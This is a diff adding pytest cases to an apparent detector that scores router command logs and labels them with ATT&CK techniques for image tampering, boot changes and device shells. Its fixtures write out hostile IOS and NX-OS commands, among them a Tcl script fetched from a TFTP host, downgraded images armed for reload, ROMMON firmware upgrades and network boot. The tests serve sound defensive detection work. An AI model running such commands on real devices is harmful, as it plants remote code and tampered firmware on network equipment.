@@ -57,6 +57,42 @@ def test_a_chain_is_one_finding(tmp_path: Path) -> None:
     assert found.title == "Image replaced and armed for the next boot on r1: c2900.bin"
 
 
+REPLACED = "t1601-001-image-replaced-and-armed"
+OLDER = "t1601-002-older-image-started"
+SHELLS = "t1059-008-network-device-shell"
+NEWER = "boot system flash:c2900-universalk9-mz.SPA.158-3.M2.bin"
+CALLED = {  # what was done, and the first technique of the finding
+    "an image that was armed and started beside a shell": (
+        ["tclsh tftp://192.0.2.9/x.tcl", BOOT, "reload"],
+        "T1601.001",
+    ),
+    "an older one": (
+        [
+            "copy tftp://192.0.2.9/c2900-universalk9-mz.SPA.151-4.M8.bin flash:",
+            "boot system flash:c2900-universalk9-mz.SPA.151-4.M8.bin",
+            "reload",
+        ],
+        "T1601.002",
+    ),
+    "firmware that a file was brought for": (
+        ["copy tftp://192.0.2.9/rommon.pkg flash:", "upgrade rom-monitor filename flash:rommon.pkg all", "reload"],
+        "T1542.004",
+    ),
+    "the configuration register": (["config-register 0x2100", "reload"], "T1542"),
+    "a start from the network": (["boot system tftp c2900.bin 192.0.2.9", "reload"], "T1542.005"),
+    "a shell beside a restart": (["tclsh tftp://192.0.2.9/x.tcl", "reload"], "T1059.008"),
+}
+
+
+@pytest.mark.parametrize("case", CALLED)
+def test_what_a_story_is_called_first(case: str, tmp_path: Path) -> None:
+    commands, technique = CALLED[case]
+    lines = [local(5 * number, command) for number, command in enumerate(commands)]
+    ran = local(-4320, "boot system flash:c2900-universalk9-mz.SPA.157-3.M8.bin")
+    found, *_ = scanned(tmp_path, [ran, *lines], only=[REPLACED, OLDER, SHELLS, ALONE])
+    assert found.techniques[0] == technique
+
+
 ALONE_TABLE = {  # what was done, and what it scores outside a chain
     "a copy": ([COPY], 35),
     "a copy and a boot change": ([COPY, BOOT], 63),
@@ -89,6 +125,10 @@ REFUSED = {  # commands of NX-OS, and what they score when every one fails
     "a copy": (["copy scp://a@192.0.2.9/x.bin bootflash:x.bin"], 21),
     "a copy and a reload": (["copy scp://a@192.0.2.9/x.bin bootflash:x.bin", "reload"], 27),
     "a copy and a boot change": (["copy scp://a@192.0.2.9/x.bin bootflash:x.bin", "boot nxos bootflash:x.bin"], 41),
+    "a copy and an installation": (
+        ["copy scp://a@192.0.2.9/x.bin bootflash:x.bin", "install all nxos bootflash:x.bin"],
+        41,
+    ),
     "all steps of a chain": (
         ["copy scp://a@192.0.2.9/x.bin bootflash:x.bin", "boot nxos bootflash:x.bin", "reload"],
         44,
@@ -106,6 +146,8 @@ def test_what_failed_altogether_is_told(case: str, tmp_path: Path) -> None:
     ]
     (found,) = scanned(tmp_path, lines, only=(ALONE,))
     assert (found.score, followed(found.score_trace)) == (score, score)
+    assert "(tried, and failed) on " in found.title
+    assert all(each.why.endswith("(tried, and failed).") for each in found.evidence)
     done = scanned(tmp_path, [line.replace("FAILURE", "SUCCESS") for line in lines], only=(ALONE,), name="done.log")
     assert done[0].score > score
 
